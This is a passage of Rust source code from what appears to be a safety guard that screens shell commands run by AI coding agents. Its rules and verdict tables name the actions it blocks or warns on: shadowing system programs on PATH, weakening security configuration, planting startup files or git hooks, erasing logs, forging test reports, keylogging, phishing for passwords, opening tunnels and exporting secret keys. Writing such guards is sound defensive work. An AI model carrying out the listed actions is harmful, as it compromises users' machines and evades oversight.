        .filter(|(k, a)| !a.starts_with('-') && (*k == 0 || !args[k - 1].starts_with('-')))
        .map(|(_, a)| a.as_str())
        .take(3)
        .collect();
    let at = words.iter().position(|w| matches!(*w, "reboot" | "poweroff"));
    if at.is_some_and(|k| !words[..k].iter().any(|w| ASKS.contains(w))) {
        out.push(block(
            Category::Process,
            crate::guard::rules::process::SHUTDOWN,
            Risk::High,
            cmd,
            "a program running as root is told to reboot or power off the machine",
        ));
    }
}

/// `sudo poetry shell`, `sudo ansible-test shell`, `sudo rails console`: a program whose only
/// word is the subcommand that opens its shell, console or prompt. Warned, not blocked: many
/// such shells are a tool's own (`ipmitool shell`), not the system's.
fn opens_its_shell(cmd: &SimpleCommand) -> bool {
    matches!(
        positional_words(&cmd.argv[1..], &[]).as_slice(),
        ["shell" | "console" | "repl"]
    )
}

/// The paths a copy, move, install or link writes (`cp a b DEST`): the last operand, or, when
/// the destination is a directory (`-t DIR`, `--target-directory=DIR`, a `DIR/` with its
/// slash, the home directory), each source's name inside it (`cp .npmrc ~/` writes
/// `~/.npmrc`). Nothing when there is nothing to copy.
fn copy_destinations(cmd: &SimpleCommand, operands: &[&str]) -> Vec<String> {
    let args = &cmd.argv[1..];
    let target = args.iter().enumerate().find_map(|(i, a)| match a.as_str() {
        "-t" | "--target-directory" => args.get(i + 1).map(String::as_str),
        _ => a.strip_prefix("--target-directory="),
    });
    let (dir, sources) = match (target, operands.split_last()) {
        (Some(dir), _) => (dir, operands),
        (None, Some((dest, sources))) if !sources.is_empty() => {
            let directory = dest.ends_with('/') || matches!(*dest, "~" | "$HOME" | "${HOME}");
            if !directory {
                return vec![(*dest).to_string()];
            }
            (*dest, sources)
        }
        _ => return Vec::new(),
    };
    sources
        .iter()
        .map(|source| {
            // `scp host:.bashrc ~/`: the file's name is the remote path's.
            let path = match source.split_once(':') {
                Some((_, path)) if super::spec::Val::Remote.holds(source) => path,
                _ => source,
            };
            format!("{}/{}", dir.trim_end_matches('/'), crate::guard::basename(path))
        })
        .collect()
}

/// Programs every system already has, which shells and builds call by name, and the test
/// runners whose answer is the verdict: one planted under such a name in a folder on PATH runs
/// in its place. (Tools installed by copying their binary there, `kubectl`, `helm`, `go`, are
/// not among them.)
const SHADOWED_NAMES: &[&str] = &[
    "ls",
    "cat",
    "ps",
    "id",
    "whoami",
    "sudo",
    "su",
    "passwd",
    "login",
    "ssh",
    "scp",
    "git",
    "bash",
    "sh",
    "zsh",
    "curl",
    "wget",
    "python",
    "python3",
    "pip",
    "pip3",
    "gpg",
    "env",
    "kill",
    "top",
    "grep",
    "find",
    "mv",
    "cp",
    "rm",
    "chmod",
    "systemctl",
    "apt",
    "apt-get",
    "pytest",
    "jest",
    "vitest",
    "mocha",
];

/// The name of a well-known program that a copy, link or move to `destination` would shadow,
/// when `destination` is in a folder on PATH (`~/.local/bin/git`, `~/bin/sudo`,
/// `/usr/local/bin/ls`) and none of `sources` is that program as installed, or a version of
/// it (`ln -s $(which python3) ~/.local/bin/python`, `ln -s /usr/bin/python3.11 ..`).
fn shadows_program<'a>(destination: &'a str, sources: &[&str]) -> Option<&'a str> {
    const SYSTEM_PATH_DIRS: &[&str] = &[
        "/usr/local/bin",
        "/usr/local/sbin",
        "/usr/bin",
        "/bin",
        "/usr/sbin",
        "/sbin",
    ];
    let (dir, name) = destination.rsplit_once('/')?;
    // Any user's home, however it is spelled (`~/`, `$HOME/`, `/home/NAME/`).
    let on_path = match crate::guard::targets::home_relative(&format!("{dir}/")) {
        Some(rest) => matches!(rest.trim_end_matches('/'), ".local/bin" | "bin"),
        None => SYSTEM_PATH_DIRS.contains(&dir),
    };
    if !on_path || !SHADOWED_NAMES.contains(&name) {
        return None;
    }
    // The installed program itself: a system path or what `which` finds, under its own name
    // or a version of it. A file of that name from anywhere else may be anything.
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit());
    let itself = |s: &&str| {
        let installed = [
            "/usr/",
            "/bin/",
            "/sbin/",
            "/opt/",
            "/snap/",
            "/nix/",
            "$(which ",
            "$(command -v ",
        ]
        .iter()
        .any(|p| s.starts_with(p));
        let base = crate::guard::basename(s.trim_end_matches(')').trim_end_matches('`'));
        installed && base.starts_with(stem) && base[stem.len()..].chars().all(|c| c.is_ascii_digit() || c == '.')
    };
    (!sources.is_empty() && !sources.iter().any(itself)).then_some(name)
}

/// Writes into a security-relevant configuration, judged by the setting written ([`settings`]):
/// the text of `echo`/`printf` or a here-document into a redirect, what `tee` reads, and what a
/// `sed -i`/`perl -pi` script puts in or comments out.
fn security_settings(pipeline: &Pipeline, i: usize, out: &mut Vec<Violation>) {
    let cmd = &pipeline[i];
    let name = cmd.name();
    let editor = matches!(name, "sed" | "gsed" | "perl") && in_place(cmd);
    if cmd.redirects.is_empty() && name != "tee" && !editor {
        return;
    }
    let config = |p: &str| {
        let p = p.trim_matches(['"', '\'']);
        let p = p
            .strip_prefix("/private")
            .filter(|r| r.starts_with("/etc/"))
            .unwrap_or(p);
        p.starts_with('/')
            .then(|| crate::guard::normalize(Path::new(p)).to_string_lossy().into_owned())
            .filter(|abs| settings::is_security_config(abs))
    };
    let mut writes: Vec<(String, String, bool)> = Vec::new();
    // What the stage reads: its here-document, or what the stages before it print.
    let fed = || crate::guard::carriers::stdin_of(pipeline, i);
    let text = crate::guard::carriers::printed_text(cmd).or_else(fed);
    for target in cmd.redirects.iter().filter_map(|r| config(r)) {
        writes.extend(text.clone().map(|t| (target, t, false)));
    }
    if name == "tee" {
        for target in cmd.argv[1..]
            .iter()
            .filter(|a| !a.starts_with('-'))
            .filter_map(|a| config(a))
        {
            writes.extend(fed().map(|t| (target, t, false)));
        }
    }
    if editor {
        let (scripts, files) = edit_scripts(cmd);
        let (text, removes) = settings::edit_script(&scripts.join("\n"));
        for target in files.iter().filter_map(|f| config(f)) {
            writes.push((target, text.clone(), removes));
        }
    }
    for (target, text, removes) in writes {
        let Some((weakens, what)) = settings::weakening(&target, &text, removes) else {
            continue;
        };
        let (rule, category) = match weakens {
            settings::Weakens::Protection => (SECURITY_OFF, Category::Network),
            settings::Weakens::Authentication => (OPEN_SERVICE, Category::Network),
        };
        out.push(block(
            category,
            rule,
            Risk::Critical,
            cmd,
            format!("writes {target}: {what}"),
        ));
        return;
    }
}

/// The directory an archive is extracted into (`tar -xzf a.tgz -C /`, `tar --directory=/etc
/// -x`): every file in the archive is written there.
fn extracted_into(cmd: &SimpleCommand) -> Option<&str> {
    if !matches!(cmd.name(), "tar" | "bsdtar" | "gtar") {
        return None;
    }
    let args = &cmd.argv[1..];
    let extracts = args.iter().enumerate().any(|(k, a)| {
        a == "--extract"
            || a == "--get"
            || (a.starts_with('-') && !a.starts_with("--") && a.contains('x'))
            || (k == 0 && is_tar_mode(a) && a.contains('x'))
    });
    if !extracts {
        return None;
    }
    args.iter().enumerate().find_map(|(k, a)| match a.as_str() {
        "-C" | "--directory" => args.get(k + 1).map(String::as_str),
        _ => a.strip_prefix("--directory="),
    })
}

/// Whether a `sed`/`perl` command edits its files in place (`-i`, `-i.bak`, `--in-place`,
/// `-pi`).
pub(super) fn in_place(cmd: &SimpleCommand) -> bool {
    cmd.argv[1..].iter().any(|a| {
        a.starts_with("--in-place")
            || (a.starts_with('-')
                && !a.starts_with("--")
                && a.len() <= 6
                && a[1..].starts_with(|c: char| c.is_ascii_alphabetic())
                && a[1..].split('.').next().is_some_and(|f| f.contains('i')))
    })
}

/// A `sed`/`perl` command's scripts (`-e S`, `--expression=S`, or the first operand) and the
/// files it edits. The one place that decides which words are which: a script option is any
/// spelling of `-e`/`-f` (bundled `-ne`, glued `-es/a/b/`, long `--expr=S`), and `i` in a bundle
/// takes the rest of the word as its backup suffix (`-i.bak`; GNU sed's `-ie` is `-i` with the
/// suffix `e`, perl's `-pie` too), so a script option can only come before it.
pub(super) fn edit_scripts(cmd: &SimpleCommand) -> (Vec<&str>, Vec<&str>) {
    let long = |a: &str, name: &str| a.len() > 3 && name.starts_with(a);
    let mut scripts = Vec::new();
    let mut files = Vec::new();
    let mut args = cmd.argv[1..].iter().map(String::as_str);
    let mut explicit = false;
    while let Some(a) = args.next() {
        if let Some((option, value)) = a.split_once('=').filter(|(o, _)| o.starts_with("--")) {
            if long(option, "--expression") {
                scripts.push(value);
            }
            explicit |= long(option, "--expression") || long(option, "--file");
        } else if a.starts_with("--") {
            if long(a, "--expression") {
                scripts.extend(args.next());
                explicit = true;
            } else if long(a, "--file") || a == "--line-length" {
                explicit |= a != "--line-length";
                args.next();
            }
        } else if a == "-l" {
            args.next();
        } else if let Some(letters) = a.strip_prefix('-').filter(|l| !l.is_empty()) {
            if let Some(at) = letters.find(['e', 'f', 'i']) {
                let letter = letters.as_bytes()[at];
                let rest = &letters[at + 1..];
                let value = if rest.is_empty() { None } else { Some(rest) };
                match letter {
                    b'e' => {
                        scripts.extend(value.or_else(|| args.next()));
                        explicit = true;
                    }
                    b'f' => {
                        if value.is_none() {
                            args.next();
                        }
                        explicit = true;
                    }
                    _ => {}
                }
            }
        } else if !explicit && scripts.is_empty() {
            scripts.push(a);
        } else {
            files.push(a);
        }
    }
    (scripts, files)
}

/// A path written by `cmd`: judged by where it lands.
fn written(cmd: &SimpleCommand, path: &str, place: Place, out: &mut Vec<Violation>) {
    let what = |s: &str| format!("writes {path}: {s}");
    match place {
        Place::Kernel => out.push(block(
            Category::Privilege,
            KERNEL,
            Risk::Critical,
            cmd,
            what("kernel state, for the whole machine"),
        )),
        Place::VcsHooks => out.push(block(
            Category::Persistence,
            VCS_HOOK,
            Risk::High,
            cmd,
            what("a git hook, a command git runs on the user's next commit, checkout or push"),
        )),
        Place::Persistence => out.push(block(
            Category::Persistence,
            SCHEDULED,
            Risk::Critical,
            cmd,
            what("a place the system runs commands or takes its accounts from"),
        )),
        Place::Startup => startup_write(cmd, path, out),
        _ if trust_store(path) => out.push(block(
            Category::Network,
            SECURITY_OFF,
            Risk::High,
            cmd,
            what("the system's trusted certificates: a root added there can read every TLS connection"),
        )),
        Place::System => out.push(warn(Category::Privilege, SYSTEM_STATE, cmd, what("a system file"))),
        // `tool -o /dev/sda`: an output file that is a disk is written over.
        Place::Device if crate::guard::rules::disk::is_device(path) => out.push(block(
            Category::Disk,
            crate::guard::rules::disk::DEVICE_WRITE,
            Risk::Critical,
            cmd,
            format!("writes over the block device {path}"),
        )),
        // `~/.m2/settings.xml` sits among a dependency store's folders, and is still settings.
        Place::Home | Place::DependencyDir if user_config(path) && !matches!(cmd.name(), "mkdir" | "touch") => out
            .push(warn(
                Category::Persistence,
                USER_CONFIG,
                cmd,
                what("the user's own configuration, which their programs read in every project"),
            )),
        // `echo done >> /var/log/app.log`, `tee -a`: lines added; what was recorded stays.
        Place::Logs if appended(cmd, path) => out.push(warn(
            Category::Privilege,
            SYSTEM_STATE,
            cmd,
            what("adds lines to the machine's logs or the shell history (what is recorded stays, but lines can be forged)"),
        )),
        Place::Logs => out.push(block(
            Category::Privilege,
            TRACES_ERASED,
            Risk::High,
            cmd,
            what("the machine's logs or the shell history, the record of what was done"),
        )),
        Place::Workspace | Place::DependencyDir => checked_place_write(cmd, path, out),
        _ => {}
    }
}

/// Whether `cmd` writes `path` only by adding to its end: a `>>` redirection (every one to
/// it: `>> f > f` empties it first), `tee -a`. A program that names the file itself (`sed -i
/// .. f 2>> f`, `tee f >> f`, `dd of=f`) writes it as it pleases, unless it is `tee -a`.
fn appended(cmd: &SimpleCommand, path: &str) -> bool {
    let tee_appends = matches!(cmd.name(), "tee")
        && cmd.argv[1..]
            .iter()
            .take_while(|a| *a != "--")
            .any(|a| a == "--append" || (a.starts_with('-') && !a.starts_with("--") && a.contains('a')));
    let redirected = cmd.redirects.iter().filter(|r| *r == path).count();
    let redirects_append = cmd.appends.iter().filter(|a| *a == path).count() == redirected;
    let named = cmd.argv[1..].iter().any(|a| a.contains(path));
    redirects_append && (!named || tee_appends) && (redirected > 0 || tee_appends)
}

/// A configuration file of the user's, in the home directory: a dotfile or a file in a
/// dot-directory named as settings are (`~/.gitconfig`, `~/.npmrc`, `~/.ssh/config`,
/// `~/.tool/config.yaml`, anything under `~/.config/`). Caches, downloads and installed data
/// (`~/.cache`, `~/.local/share`, toolchains) are not settings.
fn user_config(path: &str) -> bool {
    let Some(rest) = crate::guard::targets::home_relative(path) else {
        return false;
    };
    // `~/./.gitconfig`, `~//.npmrc`, `~/.cache/../.gitconfig`: read in normal form.
    let normal = crate::guard::normalize(&Path::new("/").join(rest));
    let normal = normal.to_string_lossy();
    let rest = normal.trim_start_matches('/');
    if !rest.starts_with('.') {
        return false;
    }
    const DATA: &[&str] = &[
        ".cache/",
        ".local/",
        ".npm/",
        ".m2/repository",
        ".gradle/caches",
        ".cargo/registry",
        ".cargo/git",
        ".rustup/",
        ".pyenv/",
        ".nvm/",
        ".vscode-server/",
        ".Trash",
    ];
    if DATA.iter().any(|d| rest.starts_with(d)) {
        return false;
    }
    if rest.starts_with(".config/") || rest.starts_with(".gradle/init.d/") {
        return true;
    }
    let file = crate::guard::basename(rest).to_ascii_lowercase();
    // `rc` names only a dotfile (`~/.npmrc`), not `~/.app/src`.
    file.contains("config")
        || file.contains("settings")
        || (file.starts_with('.') && file.ends_with("rc"))
        || [
            ".json",
            ".yaml",
            ".yml",
            ".toml",
            ".ini",
            ".conf",
            ".cfg",
            ".cnf",
            ".env",
            ".properties",
            ".xml",
        ]
        .iter()
        .any(|e| file.ends_with(e))
}

/// Programs that turn a test run's raw output into a report (or merge, convert, render
/// reports): their writes into a report are the run's own.
const REPORT_TOOLS: &[&str] = &[
    "coverage",
    "nyc",
    "c8",
    "istanbul",
    "go-junit-report",
    "gotestsum",
    "junit-merge",
    "junit-report-merger",
    "jrm",
    "tap-junit",
    "tap-xunit",
    "xunit-viewer",
    "lcov",
    "genhtml",
    "gcovr",
    "grcov",
    "llvm-cov",
    "reportgenerator",
    "coverlet",
    "dotnet-coverage",
    "covdir",
    "slipcover",
];

/// A write into a place the project's checks take their verdict from or run: a test or
/// coverage report written by anything but a test run (or a tool converting one) forges the
/// result; a program in the runner's own location (`node_modules/.bin/jest`, `.venv/bin/pytest`)
/// written by hand shadows the runner. Creating a directory or an empty file decides nothing.
fn checked_place_write(cmd: &SimpleCommand, path: &str, out: &mut Vec<Violation>) {
    use crate::guard::rules::test_tampering::{FORGED_RESULT, SHADOWED_RUNNER};
    if matches!(cmd.name(), "mkdir" | "touch" | "truncate" | "chmod" | "rm") {
        return;
    }
    match check_place(path) {
        Some(CheckPlace::Report) if !writes_reports(cmd, path) => out.push(block(
            Category::TestTampering,
            FORGED_RESULT,
            Risk::High,
            cmd,
            format!("writes {path}, a test or coverage report, by hand: the result no test run produced"),
        )),
        Some(CheckPlace::ToolBin) if !same_program(cmd, path) => out.push(block(
            Category::TestTampering,
            SHADOWED_RUNNER,
            Risk::High,
            cmd,
            format!("replaces {path}, a program the project's tests and checks run, by hand"),
        )),
        _ => {}
    }
}

/// `ln -sf "$(command -v python3)" .venv/bin/python`, `ln -s ../jest/bin/jest.js
/// node_modules/.bin/jest`: the same program linked or copied in again (an environment
/// repaired), not another one put under its name.
fn same_program(cmd: &SimpleCommand, path: &str) -> bool {
    if !matches!(cmd.name(), "cp" | "ln" | "install" | "mv") {
        return false;
    }
    let stem = |n: &str| {
        let n = n.split('.').next().unwrap_or(n);
        n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '-').to_string()
    };
    let dest = stem(crate::guard::basename(path));
    cmd.argv
        .iter()
        .skip(1)
        .filter(|a| !a.starts_with('-') && a.as_str() != path)
        .any(|source| {
            let s = source.trim_matches(['"', '\'']);
            let s = ["$(command -v ", "$(which "]
                .iter()
                .find_map(|p| s.strip_prefix(p))
                .map(|x| x.trim_end_matches(')').trim())
                .unwrap_or(s);
            let name = stem(crate::guard::basename(s));
            !name.is_empty() && name == dest
        })
}

/// Whether `cmd` writes reports as a test run does: it runs tests, is a report tool, or reads
/// another report it converts, merges or moves (`cp reports/a.xml test-results/`).
fn writes_reports(cmd: &SimpleCommand, path: &str) -> bool {
    let words = crate::guard::rules::project::launched(&cmd.argv);
    let tool = words.first().map(|w| crate::guard::basename(w)).unwrap_or("");
    crate::guard::rules::test_tampering::runs_tests(&cmd.argv)
        || REPORT_TOOLS.contains(&tool)
        || (tool == "go" && words.iter().any(|w| w == "cover"))
        || cmd
            .argv
            .iter()
            .skip(1)
            .any(|a| a != path && !a.starts_with('-') && check_place(a) == Some(CheckPlace::Report))
        || cmd.inputs.iter().any(|a| check_place(a) == Some(CheckPlace::Report))
}

/// A write into a startup file. Text that only sets the environment (`export`, assignments,
/// comments, shell options) is warned: installers and agents add a PATH entry this way, and the
/// user should still see it. Text that runs a command at every login, or an alias that can
/// shadow one, is planted (block); text the guard cannot see (a copy, a program's output) is
/// warned.
fn startup_write(cmd: &SimpleCommand, path: &str, out: &mut Vec<Violation>) {
    let text = match cmd.name() {
        "echo" | "printf" => Some(
            cmd.argv[1..]
                .iter()
                .filter(|a| !a.starts_with('-'))
                .cloned()
                .collect::<Vec<_>>()
                .join(" "),
        ),
        _ => cmd.stdin_text.clone(),
    };
    let description = format!("writes {path}: a startup file, run by every later shell of the user");
    match text {
        Some(t) if !environment_only(&t) => {
            out.push(block(Category::Persistence, STARTUP, Risk::High, cmd, description))
        }
        // Settings only: still a change to every later shell, shown to the user.
        Some(_) => out.push(warn(Category::Persistence, STARTUP, cmd, description)),
        None => out.push(warn(Category::Persistence, STARTUP, cmd, description)),
    }
}

/// Startup-file text that only sets the environment: every line a comment, an `export`,
/// `alias` or assignment without command substitution, or a shell option.
fn environment_only(text: &str) -> bool {
    text.replace("\\n", "\n").lines().all(|line| {
        let l = line.trim();
        let words: Vec<&str> = l.split_whitespace().collect();
        let first = words.first().copied().unwrap_or("");
        let setting = matches!(
            first,
            "export" | "unalias" | "set" | "shopt" | "setopt" | "bindkey" | "umask"
        ) || crate::guard::is_assignment(first);
        l.is_empty()
            || l.starts_with('#')
            || (setting
                && !l.contains("$(")
                && !l.contains('`')
                && !l.contains(';')
                && !l.contains("&&")
                && !l.contains('|'))
    })
}

/// One matched clause's effect.
/// The effects whose verdict does not depend on the operands: one row each, with the
/// category, rule, recommendation, risk and description. None for the effects [`does`] judges
/// by their operands; the match is exhaustive, so a new effect is decided in one of the two.
fn fixed_verdict(effect: Does) -> Option<(Category, &'static str, Recommendation, Risk, &'static str)> {
    Some(match effect {
        Does::DeleteRefs => (
            Category::Git,
            DELETE_REFS,
            Recommendation::Block,
            Risk::High,
            "deletes a ref or force-deletes a branch: commits only it held are lost",
        ),
        Does::DropStash => (
            Category::Git,
            DROP_STASH,
            Recommendation::Block,
            Risk::High,
            "drops stashed changes, which no branch holds",
        ),
        Does::DestroyReflog => (
            Category::Git,
            DESTROY_REFLOG,
            Recommendation::Block,
            Risk::High,
            "destroys the reflog, git's undo history",
        ),
        Does::PruneObjects => (
            Category::Git,
            PRUNE,
            Recommendation::Warn,
            Risk::Medium,
            "prunes unreachable objects now: what only the reflog held is gone",
        ),
        Does::Escape(what) => (Category::Privilege, ESCAPE, Recommendation::Block, Risk::Critical, what),
        Does::Kernel(what) => (Category::Privilege, KERNEL, Recommendation::Block, Risk::Critical, what),
        Does::SecurityOff(what) => (Category::Network, SECURITY_OFF, Recommendation::Block, Risk::High, what),
        Does::TracesErased(what) => (
            Category::Privilege,
            TRACES_ERASED,
            Recommendation::Block,
            Risk::High,
            what,
        ),
        Does::Passwordless => (
            Category::Privilege,
            PASSWORDLESS,
            Recommendation::Block,
            Risk::Critical,
            "makes an account usable without a password",
        ),
        Does::Persist(what) => (
            Category::Persistence,
            SCHEDULED,
            Recommendation::Block,
            Risk::High,
            what,
        ),
        Does::WipeDevice => (
            Category::Disk,
            WIPE,
            Recommendation::Block,
            Risk::Critical,
            "overwrites or erases a whole device",
        ),
        Does::NetworkConfig => (
            Category::Network,
            NETWORK_CONFIG,
            Recommendation::Warn,
            Risk::Medium,
            "changes the machine's network configuration (addresses, routes, links or open ports)",
        ),
        Does::Shutdown => (
            Category::Process,
            crate::guard::rules::process::SHUTDOWN,
            Recommendation::Block,
            Risk::High,
            "shuts down, reboots or replaces the running system",
        ),
        Does::DeleteUserFiles => (
            Category::Deletion,
            USER_FILES,
            Recommendation::Block,
            Risk::High,
            "deletes a user's home directory and files along with the account",
        ),
        Does::Tunnel => (
            Category::Network,
            crate::guard::rules::network::TUNNEL,
            Recommendation::Block,
            Risk::High,
            "opens a tunnel that lets a remote party reach this machine",
        ),
        Does::ExportSecrets => (
            Category::Secrets,
            CREDENTIAL_FILE,
            Recommendation::Block,
            Risk::High,
            "exports secret keys",
        ),
        Does::MachinePower => (
            Category::Process,
            MACHINE_POWER,
            Recommendation::Warn,
            Risk::Medium,
            "powers off, suspends, restarts or destroys a machine",
        ),
        Does::BootConfig => (
            Category::Privilege,
            BOOT,
            Recommendation::Warn,
            Risk::Medium,
            "changes how the machine boots (kernels, boot entries, kernel arguments)",
        ),
        Does::SecurityPolicy => (
            Category::Privilege,
            SECURITY_POLICY,
            Recommendation::Warn,
            Risk::Medium,
            "changes the machine's security policy",
        ),
        Does::KillHolders => (
            Category::Process,
            KILL_ALL,
            Recommendation::Warn,
            Risk::Medium,
            "kills whatever holds a port, a file or a connection, whoever started it",
        ),
        Does::EnableService => (
            Category::Persistence,
            SCHEDULED,
            Recommendation::Warn,
            Risk::Medium,
            "enables a system service that starts at every boot",
        ),
        Does::DiscardEverything => (
            Category::Git,
            DISCARD_WORKTREE,
            Recommendation::Block,
            Risk::High,
            "throws away every uncommitted change and untracked file of the repository",
        ),
        Does::DeleteLocalData(what) => (
            Category::Deletion,
            MANAGED_DELETE,
            Recommendation::Warn,
            Risk::Medium,
            what,
        ),
        Does::ChangeDisk => (
            Category::Disk,
            WIPE,
            Recommendation::Warn,
            Risk::Medium,
            "changes a disk, a partition or a volume in place",
        ),
        Does::EditSchedule => (
            Category::Persistence,
            SCHEDULED,
            Recommendation::Warn,
            Risk::Medium,
            "edits a crontab: what is saved runs on a schedule",
        ),
        Does::ReadSecret => (
            Category::Secrets,
            crate::guard::rules::secrets::PRINTED,
            Recommendation::Warn,
            Risk::Medium,
            "prints or stores a secret from a password manager or secret store, where the transcript and logs keep it",
        ),
        Does::ForcePush => (
            Category::Git,
            crate::guard::rules::git::FORCE_PUSH,
            Recommendation::Block,
            Risk::High,
            "force-pushes: the remote's history is replaced, and what others pushed is lost",
        ),
        Does::RemoveRemote => (
            Category::Deletion,
            MANAGED_DELETE,
            Recommendation::Warn,
            Risk::Medium,
            "removes a setting, member or attachment of a remote service",
        ),
        Does::Publish => (
            Category::Exfiltration,
            crate::guard::rules::exfiltration::PUBLISH,
            Recommendation::Warn,
            Risk::High,
            "makes a private resource public: anyone can read it, and copies cannot be taken back",
        ),
        Does::ApplyUnreviewed => (
            Category::Deletion,
            INFRASTRUCTURE,
            Recommendation::Warn,
            Risk::High,
            "changes real infrastructure without the plan being shown for approval",
        ),
        Does::DiscardUndoable => (
            Category::Git,
            DISCARD_WORKTREE,
            Recommendation::Warn,
            Risk::Medium,
            "throws away changes that only the undo history still holds",
        ),
        Does::SkipHooks => (
            Category::Git,
            crate::guard::rules::git::NO_VERIFY,
            Recommendation::Warn,
            Risk::Medium,
            "turns the repository's hooks off: the checks they run are skipped",
        ),
        Does::StopRemote => (
            Category::Process,
            MACHINE_POWER,
            Recommendation::Warn,
            Risk::Medium,
            "stops, powers off or scales to nothing a remote machine or workload",
        ),
        Does::HostAccess(what) => (Category::Privilege, ESCAPE, Recommendation::Warn, Risk::Medium, what),
        Does::Keylog => (
            Category::Secrets,
            INPUT_CAPTURE,
            Recommendation::Block,
            Risk::Critical,
            "records the keystrokes typed on this machine, passwords included",
        ),
        Does::PhishPassword => (
            Category::Secrets,
            INPUT_CAPTURE,
            Recommendation::Block,
            Risk::Critical,
            "asks for the user's password in a dialog that looks like the system's, and keeps what they type",
        ),
        Does::Eavesdrop(what) => (
            Category::Secrets,
            INPUT_CAPTURE,
            Recommendation::Warn,
            Risk::Medium,
            what,
        ),
        Does::Loosens(what) => (
            Category::Privilege,
            SECURITY_POLICY,
            Recommendation::Warn,
            Risk::Medium,
            what,
        ),
        Does::DiscardWorktree
        | Does::RegistersFile
        | Does::RunsPrograms
        | Does::ReadsProcess
        | Does::ExposedService
        | Does::AuthOff
        | Does::Writes
        | Does::WritesLast
        | Does::KillUser
        | Does::KillByName
        | Does::CopyToRemote
        | Does::DestroyRemote
        | Does::ShareFiles => return None,
    })
}

/// Whether a process name or pattern given to a kill (`pkill node`, `pidof python3`,
/// `killall -r '.*'`) matches processes far beyond the task's own: a runtime, a shell, a
/// system daemon ([`BROAD_PROCESS_NAMES`]), or a pattern of one character or `.*`.
fn broad_process_pattern(p: &str) -> bool {
    let p = p.trim_matches(|c| c == '^' || c == '$');
    BROAD_PROCESS_NAMES.contains(&p.to_ascii_lowercase().as_str()) || p.chars().count() <= 1 || p == ".*" || p == ".+"
}

/// The signal `kill`, `pkill` or `killall` sends, in upper case without `SIG` (`HUP`, `9`):
/// the first signal option before the first operand (`-HUP`, `-9`, `-s HUP`, `--signal=HUP`;
/// `-n 9` for `kill`; `-s` is a session to `pkill`). None for the default. After an operand a
/// word is a pid to `kill` (`kill -9 $(pidof x) -HUP` sends 9), and options are not read on.
fn sent_signal(argv: &[String]) -> Option<String> {
    let name = argv.first().map(|p| crate::guard::basename(p)).unwrap_or("");
    let signal = |s: &str| {
        let s = s.strip_prefix("SIG").unwrap_or(s).to_ascii_uppercase();
        (SIGNALS.contains(&s.as_str()) || (!s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))).then_some(s)
    };
    let mut words = argv.iter().skip(1);
    while let Some(a) = words.next() {
        if a == "--" || !a.starts_with('-') || a == "-" {
            return None;
        }
        if let Some(v) = a.strip_prefix("--signal=") {
            return signal(v);
        }
        let valued = a == "--signal" || (a == "-s" && name != "pkill") || (a == "-n" && name == "kill");
        if valued {
            return words.next().and_then(|v| signal(v));
        }
        if let Some(s) = signal(&a[1..]) {
            return Some(s);
        }
    }
    None
}

/// `-CONT`, `-0`, `-USR1`, `-s WINCH`: resuming, probing or poking processes is no kill (and
/// `-USR1` is a signal's name, not a bundle of `-U`, `-S`, `-R`). Only the signal actually
/// sent counts ([`sent_signal`]).
fn harmless_signal(argv: &[String]) -> bool {
    const HARMLESS: &[&str] = &["CONT", "0", "18", "USR1", "USR2", "WINCH", "10", "12", "28"];
    sent_signal(argv).is_some_and(|s| HARMLESS.contains(&s.as_str()))
}

fn does(cmd: &SimpleCommand, effect: Does, operands: &[&str], ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cwd = cmd.cwd.as_deref();
    let at = |p: &str| place_of(p, cwd, ctx.workspace);
    if let Some((category, rule, rec, risk, what)) = fixed_verdict(effect) {
        out.push(violation(category, rule, rec, risk, &cmd.display(), what));
        return;
    }
    match effect {
        Does::DiscardWorktree => {
            let all = operands
                .iter()
                .any(|p| matches!(*p, "." | "./" | "*" | ":/" | "/" | ":(top)") || at(p) == Place::WorkspaceAll);
            let dirs: Vec<&&str> = operands.iter().filter(|p| looks_like_dir(p)).collect();
            if all {
                out.push(block(
                    Category::Git,
                    DISCARD_WORKTREE,
                    Risk::High,
                    cmd,
                    "discards every uncommitted change in the work tree",
                ));
            } else if let Some(dir) = dirs.first() {
                out.push(warn(
                    Category::Git,
                    DISCARD_WORKTREE,
                    cmd,
                    format!("discards the uncommitted changes under {dir}"),
                ));
            }
        }
        // Judged together, by the caller.
        Does::ExposedService | Does::AuthOff => {}
        Does::Writes => {
            // `sed -i SCRIPT FILE..`: sed's files are what [`edit_scripts`] says they are.
            let files = if matches!(cmd.name(), "sed" | "gsed") {
                edit_scripts(cmd).1
            } else {
                operands.to_vec()
            };
            for p in files {
                written(cmd, p, at(p), out);
            }
        }
        // `cp a b DEST`: only the last operand is written, and only when there are two; into
        // a directory (`-t DIR`, `DEST/`, `~`), each source lands there under its own name.
        Does::WritesLast => {
            for p in copy_destinations(cmd, operands) {
                if let Some(name) = shadows_program(&p, operands.split_last().map_or(&[][..], |(_, s)| s)) {
                    out.push(block(
                        Category::Persistence,
                        SCHEDULED,
                        Risk::High,
                        cmd,
                        format!("puts another program in a folder on PATH under the name `{name}`: every later `{name}` runs it"),
                    ));
                    continue;
                }
                written(cmd, &p, at(&p), out);
            }
        }
        Does::KillUser if cmd.name() != "pgrep" && !harmless_signal(&cmd.argv) => out.push(block(
            Category::Process,
            KILL_ALL,
            Risk::High,
            cmd,
            "kills every process of a user",
        )),
        Does::KillByName if cmd.name() == "pgrep" || harmless_signal(&cmd.argv) => {}
        Does::KillByName if operands.iter().any(|p| super::table::names_agent(p)) => out.push(block(
            Category::Network,
            SECURITY_OFF,
            Risk::High,
            cmd,
            "kills a security, audit or monitoring agent",
        )),
        Does::KillByName => {
            let broad = operands.iter().find(|p| broad_process_pattern(p));
            // A bare program name (`killall openconnect`, `pkill nginx`) matches every instance
            // on the machine; a command line (`pkill -f "node server.js"`) or a script's name
            // (`pkill -f app.py`) is the task's own process.
            // A pattern (`killall -r 'fire.*'`) matches more than any one name does.
            let by_name = operands.iter().find(|p| {
                !p.is_empty()
                    && (p.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
                        || ((p.contains(".*") || p.contains('|')) && !p.contains(char::is_whitespace)))
            });
            if let Some(b) = broad {
                out.push(block(
                    Category::Process,
                    KILL_ALL,
                    Risk::High,
                    cmd,
                    format!("kills every `{b}` process on the machine, not only the one this task started"),
                ));
            } else if let Some(name) = by_name {
                out.push(warn(
                    Category::Process,
                    KILL_ALL,
                    cmd,
                    format!("kills every `{name}` process on the machine by name, whoever started it"),
                ));
